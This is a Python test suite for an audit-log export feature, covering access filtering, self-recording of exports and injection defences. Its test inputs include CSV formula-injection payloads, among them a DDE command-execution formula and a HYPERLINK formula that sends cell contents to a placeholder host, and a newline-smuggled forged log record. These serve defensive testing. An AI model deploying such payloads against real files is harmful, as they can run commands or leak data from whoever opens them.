"""The log as a file: only what may be read, safe to open, and itself written down."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from portfolio.models import Portfolio
from riskconsole.audit import export, verify_export
from riskconsole.audit.models import AuditEntry
from riskconsole.audit.verify_export import Row
from tests.functional.audit.conftest import content_of, note, signed_in, tamper

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://x.invalid?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    '"=1+1"',
    "a,=1+1",
    "a\r\n=1+1",
]


def exported(username: str, format: str, query: str = "") -> bytes:
    response = signed_in(username).post(f"/audit/export/{query}", {"format": format})
    assert response.status_code == 200
    assert f'filename="audit-log-' in response["Content-Disposition"]  # noqa: F541
    return content_of(response)  # type: ignore[arg-type]


def lines(content: bytes) -> list[dict[str, object]]:
    return [json.loads(line) for line in content.splitlines()]


def test_an_unfiltered_export_verifies_by_itself(
    main: Portfolio, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "WINDOW", 3)
    note(times=10)
    content = exported("audrey", "ndjson")
    assert len(lines(content)) == 10
    assert lines(content)[0].keys() == set(Row._fields)
    (tmp_path / "log").write_bytes(content)
    done = subprocess.run(
        [sys.executable, verify_export.__file__, str(tmp_path / "log")], check=False
    )
    assert done.returncode == 0


@pytest.mark.parametrize("format", ["csv", "ndjson"])
def test_the_filter_of_the_page_is_the_filter_of_the_export(main: Portfolio, format: str) -> None:
    note("breaker.trip.happened", portfolio="main")
    note("breaker.trip.happened", portfolio="other")
    note("oms.leg.settled", portfolio="main", times=2)
    content = exported("audrey", format, "?portfolio=main&action=oms")
    assert content.count(b"oms.leg.settled") == 2
    assert b"breaker" not in content


@pytest.mark.parametrize("query", ["", "?portfolio=other", "?subject=about+other"])
def test_a_member_takes_only_what_he_may_read(main: Portfolio, query: str) -> None:
    note(portfolio="other", secret="nothing for bob")
    note(portfolio="main")
    note()
    content = exported("bob", "ndjson", query)
    assert b"nothing for bob" not in content
    assert [line["portfolio"] for line in lines(content)] == ([] if query else ["main"])


def test_an_export_is_written_down_before_it_leaves(main: Portfolio) -> None:
    note(times=2)
    assert len(lines(exported("audrey", "ndjson", "?action=breaker&portfolio=main"))) == 0
    entry = AuditEntry.objects.latest("sequence")
    assert (entry.action, entry.actor) == ("audit.export.made", "user:audrey")
    assert json.loads(entry.payload) == {
        "format": "ndjson",
        "filter": "portfolio=main&action=breaker",
        "log_length": 2,
    }


@pytest.mark.parametrize(
    ("format", "query"), [("xlsx", ""), ("", ""), ("csv", "?first=x"), ("csv", "?since=never")]
)
def test_a_format_or_a_filter_that_is_none_exports_nothing(
    main: Portfolio, format: str, query: str
) -> None:
    response = signed_in("audrey").post(f"/audit/export/{query}", {"format": format})
    assert response.status_code == 404
    assert not AuditEntry.objects.exists()


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("column", ["actor", "address", "subject", "payload"])
def test_no_cell_of_a_csv_is_a_formula(main: Portfolio, column: str, text: str) -> None:
    note(times=1)
    tamper(f"UPDATE audit_auditentry SET {column} = %s", text)  # noqa: S608 - our own column
    content = exported("audrey", "csv").decode()
    header, row = csv.reader(io.StringIO(content, newline=""))
    assert header == list(Row._fields)
    cell = row[header.index(column)]
    assert cell == (f"'{text}" if text[0] in "=+-@\t\r\n" else text)
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for value in row)


def test_a_new_line_in_a_name_makes_no_line_of_the_log(main: Portfolio) -> None:
    text = 'x\n{"sequence":2,"actor":"user:adam"}\r\n\u2028\x85fake'
    note(actor=f"user:{text}", reason=text)
    content = exported("audrey", "ndjson")
    assert content.count(b"\n") == 1
    assert lines(content)[0]["actor"] == f"user:{text}"
    rows = list(csv.reader(io.StringIO(exported("audrey", "csv").decode(), newline="")))
    assert len(rows) == 3
